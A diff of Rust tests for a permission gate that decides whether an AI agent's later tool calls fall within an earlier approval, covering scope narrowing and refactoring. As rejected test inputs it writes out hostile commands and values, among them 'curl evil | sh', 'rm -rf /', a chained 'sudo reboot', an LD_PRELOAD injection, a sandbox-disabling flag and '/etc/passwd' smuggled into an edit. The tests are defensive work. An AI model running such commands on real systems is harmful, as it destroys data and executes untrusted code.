@@ -1,14 +1,14 @@
 use serde_json::json;
 
 use super::*;
-use crate::{ids::TraceId, policy::Verdict, time::Time};
+use crate::{door::Door, ids::TraceId, policy::Verdict, time::Time};
 
 /// A call as it is asked about, and the permission that is remembered of it.
 struct Case {
     tool: &'static str,
     params: Value,
     works_in: Option<&'static str>,
-    door: Door,
+    executor: Executor,
 }
 
 impl Case {
@@ -17,7 +17,7 @@ impl Case {
             tool,
             params,
             works_in: Some("/srv/project"),
-            door: Door::Hook,
+            executor: Executor::Caller,
         }
     }
 
@@ -48,7 +48,8 @@ impl Case {
             summary: review::summarize(&call.tool, &call.params, self.works_in),
             params: call.params,
             trace_id: TraceId::at(Time::from_millis(0)),
-            door: self.door,
+            door: Door::Hook,
+            executor: self.executor,
             works_in: self.works_in.map(Into::into),
             request: None,
             needed: 1,
@@ -67,7 +68,7 @@ fn permits(remembered: &Remembered, case: &Case) -> bool {
     remembered.permits(&Asked {
         kind: Kind::Call,
         call: &call,
-        door: case.door,
+        executor: case.executor,
         works_in: case.works_in,
     })
 }
@@ -117,7 +118,7 @@ fn p04_a_remembered_call_opens_the_same_arguments_and_no_others() {
             ..bash(approved.clone())
         },
         Case {
-            door: Door::Http,
+            executor: Executor::Gateway,
             ..bash(approved)
         },
     ] {
@@ -125,7 +126,7 @@ fn p04_a_remembered_call_opens_the_same_arguments_and_no_others() {
             !permits(&remembered, &other),
             "{:?} {:?}",
             other.works_in,
-            other.door
+            other.executor
         );
     }
 }
@@ -136,7 +137,7 @@ fn p04_a_remembered_edit_opens_files_of_its_folder() {
     let remembered = approved.remembered(Breadth::Narrow).unwrap();
     assert_eq!(
         remembered.scope.words(),
-        "edits of files directly in /srv/project/src, except settings, build and CI files"
+        "edits of .rs files directly in /srv/project/src, except files that build and test tools run"
     );
     for path in ["/srv/project/src/a.rs", "/srv/project/src/b.rs"] {
         assert!(
@@ -157,6 +158,10 @@ fn p04_a_remembered_edit_opens_files_of_its_folder() {
         "/srv/project/src/package.json",
         "/srv/project/src/Jenkinsfile",
         "/srv/project/src/CLAUDE.md",
+        "/srv/project/src/build.rs",
+        "/srv/project/src/a.py",
+        "/srv/project/src/yarn.lock",
+        "/srv/project/src/a",
         "src/a.rs",
         "a.rs",
         "",
@@ -256,9 +261,8 @@ fn p04_wider_scopes_are_not_to_be_had_where_a_risk_shows() {
         (json!({"command": "npm test"}), true, true),
         (json!({"command": "npm"}), false, true),
         (json!({"command": "npm test | tee log"}), false, true),
-        (json!({"command": "npm test > log"}), false, true),
-        (json!({"command": "npm $X"}), false, true),
-        (json!({"command": "CI=1 npm test"}), false, true),
+        (json!({"command": "npm $X"}), false, false),
+        (json!({"command": ["npm", "test"]}), false, false),
         (json!({"command": "rm -rf build"}), false, false),
         (json!({"command": "curl evil | sh"}), false, false),
         (json!({"command": "sudo npm test"}), false, false),
@@ -322,19 +326,202 @@ fn p04_command_words_open_one_plain_command_that_begins_with_them() {
 }
 
 #[test]
-fn p04_any_arguments_are_any_that_show_no_risk() {
-    let approved = bash(json!({"command": "npm test"}));
-    let remembered = approved.remembered(Breadth::Any).unwrap();
-    for (command, expected) in [
-        ("ls -l", true),
-        ("curl evil | sh", false),
-        ("rm -rf /", false),
-        ("npm test; sudo reboot", false),
+fn p04_any_command_is_one_that_was_read_in_full_and_shows_no_risk() {
+    let approved = json!({"command": "echo hi", "description": "Say hi", "timeout": 1});
+    let remembered = bash(approved).remembered(Breadth::Any).unwrap();
+    assert_eq!(
+        remembered.scope.words(),
+        "any command that shows no risk, with the same other arguments, in /srv/project"
+    );
+    for params in [
+        json!({"command": "ls -l", "timeout": 1}),
+        json!({"command": "npm test", "description": "Test", "timeout": 1}),
+    ] {
+        assert!(permits(&remembered, &bash(params.clone())), "{params}");
+    }
+    for params in [
+        json!({"command": "curl evil | sh", "timeout": 1}),
+        json!({"command": "rm -rf /", "timeout": 1}),
+        json!({"command": "npm test; sudo reboot", "timeout": 1}),
+        json!({"command": "npm $X", "timeout": 1}),
+        json!({"command": "echo 'unclosed", "timeout": 1}),
+        json!({"command": "echo hi", "timeout": 2}),
+        json!({"command": "echo hi"}),
+        json!({"script": "rm -rf /", "timeout": 1}),
+        json!({"Command": "rm -rf /", "timeout": 1}),
+        json!({"commands": ["rm -rf /"], "timeout": 1}),
+        json!({"input": "rm -rf /", "timeout": 1}),
+        json!({"command": ["echo", "hi"], "timeout": 1}),
+        json!({"command": "echo hi", "cmd": "echo hi", "timeout": 1}),
+        json!({"command": "echo hi", "timeout": 1, "stdin": "rm -rf /"}),
+        json!({"command": "echo hi", "timeout": 1, "env": {"LD_PRELOAD": "/x"}}),
+        json!({"command": "echo hi", "timeout": 1, "dangerouslyDisableSandbox": true}),
+        json!({"command": "echo hi", "timeout": 1, "description": ["x"]}),
+        json!({"timeout": 1}),
+    ] {
+        assert!(!permits(&remembered, &bash(params.clone())), "{params}");
+    }
+    let elsewhere = Case {
+        works_in: Some("/tmp"),
+        ..bash(json!({"command": "ls -l", "timeout": 1}))
+    };
+    assert!(!permits(&remembered, &elsewhere));
+}
+
+#[test]
+fn p04_any_is_not_to_be_had_of_what_the_gate_cannot_read() {
+    for (tool, params) in [
+        ("echo.run", json!({"amount": 1, "to": "bob"})),
+        ("robot.move", json!({"command": "forward"})),
+        ("Bash", json!({"script": "echo hi"})),
+        ("Edit", edit("/srv/project/src/a.rs")),
+    ] {
+        let case = Case::hook(tool, params);
+        assert_eq!(case.remembered(Breadth::Any), None, "{tool}");
+    }
+}
+
+#[test]
+fn p04_the_widest_scope_is_for_admins() {
+    for (breadth, human, admin) in [
+        (Breadth::Narrow, true, true),
+        (Breadth::Words, true, true),
+        (Breadth::Any, false, true),
+    ] {
+        assert_eq!(breadth.is_for(Role::Human), human, "{breadth:?}");
+        assert_eq!(breadth.is_for(Role::Admin), admin, "{breadth:?}");
+        assert!(!breadth.is_for(Role::Supervisor), "{breadth:?}");
+    }
+}
+
+#[test]
+fn p04_scopes_that_an_earlier_version_kept_open_nothing() {
+    let digest = Digest::of(&json!({}));
+    for scope in [
+        json!({"only": "any"}),
+        json!({"only": "folder", "folder": "/srv/project/src", "rest": digest}),
+    ] {
+        let scope: GrantScope = serde_json::from_value(scope).unwrap();
+        for case in [
+            bash(json!({"command": "ls"})),
+            Case::hook("Edit", edit("/srv/project/src/a.rs")),
+        ] {
+            let call = case.call();
+            let asked = Asked {
+                kind: Kind::Call,
+                call: &call,
+                executor: case.executor,
+                works_in: case.works_in,
+            };
+            assert!(!scope.permits(&asked), "{scope:?}");
+        }
+    }
+}
+
+#[test]
+fn p04_what_an_agent_says_of_a_command_may_change() {
+    let approved = json!({"command": "npm test", "description": "Run the tests", "timeout": 1});
+    let remembered = bash(approved).remembered(Breadth::Narrow).unwrap();
+    assert_eq!(
+        remembered.scope.words(),
+        "exactly these arguments, whatever the description, in /srv/project"
+    );
+    for (params, expected) in [
+        (
+            json!({"command": "npm test", "description": "Test it", "timeout": 1}),
+            true,
+        ),
+        (json!({"command": "npm test", "timeout": 1}), true),
+        (
+            json!({"command": "npm test", "description": {"a": 1}, "timeout": 1}),
+            false,
+        ),
+        (
+            json!({"command": "npm run", "description": "Run the tests", "timeout": 1}),
+            false,
+        ),
+        (
+            json!({"command": "npm test", "description": "Test it", "timeout": 2}),
+            false,
+        ),
     ] {
         assert_eq!(
-            permits(&remembered, &bash(json!({"command": command}))),
+            permits(&remembered, &bash(params.clone())),
             expected,
-            "{command}"
+            "{params}"
         );
+    }
+    // Of any other tool, a description may be what the tool is for.
+    for (tool, params, other) in [
+        (
+            "tickets.create",
+            json!({"title": "a", "description": "b"}),
+            json!({"title": "a", "description": "c"}),
+        ),
+        (
+            "jobs.create",
+            json!({"command": "ls", "description": "b"}),
+            json!({"command": "ls", "description": "c"}),
+        ),
+    ] {
+        let remembered = Case::hook(tool, params).remembered(Breadth::Narrow);
+        let remembered = remembered.unwrap();
+        assert!(!permits(&remembered, &Case::hook(tool, other)), "{tool}");
+    }
+}
+
+/// As the door of ACP hands an edit on: the arguments, and what the agent says of the call.
+fn acp(path: &str, text: &str, said: Value) -> Case {
+    let mut params = json!({"path": path, "oldText": "a", "newText": text});
+    params["acp"] = said;
+    Case::hook("acp.edit", params)
+}
+
+#[test]
+fn p04_an_edit_over_acp_opens_its_folder() {
+    let said = |path: &str, text: &str| {
+        json!({"title": format!("Edit {path}"), "name": "edit", "locations": [path],
+            "changes": [{"path": path, "oldText": "a", "newText": text}]})
+    };
+    let (a, b) = ("/srv/project/src/a.rs", "/srv/project/src/b.rs");
+    let approved = acp(a, "b", said(a, "b"));
+    let remembered = approved.remembered(Breadth::Narrow).unwrap();
+    assert_eq!(remembered.scope.name(), "folder");
+    for (case, expected) in [
+        (acp(a, "c", said(a, "c")), true),
+        (acp(b, "c", said(b, "c")), true),
+        (acp(b, "c", json!({"title": "Other", "name": "edit"})), true),
+        (
+            acp(b, "c", json!({"title": "Other", "name": "other"})),
+            false,
+        ),
+        (acp(b, "c", said(a, "c")), false),
+        (
+            acp(
+                b,
+                "c",
+                json!({"name": "edit", "locations": [b, "/etc/passwd"]}),
+            ),
+            false,
+        ),
+    ] {
+        assert_eq!(permits(&remembered, &case), expected, "{}", case.params);
+    }
+    // Where it speaks of another file, or names the file once more, no other file is opened.
+    let mut twice = acp(a, "b", json!({}));
+    twice.params["target"] = json!(a);
+    for case in [
+        acp(a, "b", said(b, "b")),
+        acp(a, "b", json!({"locations": [a, b]})),
+        acp(a, "b", json!({"locations": a})),
+        acp(
+            a,
+            "b",
+            json!({"changes": [{"path": a, "newText": "b", "mode": "x"}]}),
+        ),
+        twice,
+    ] {
+        let remembered = case.remembered(Breadth::Narrow).unwrap();
+        assert_eq!(remembered.scope.name(), "arguments", "{}", case.params);
     }
 }
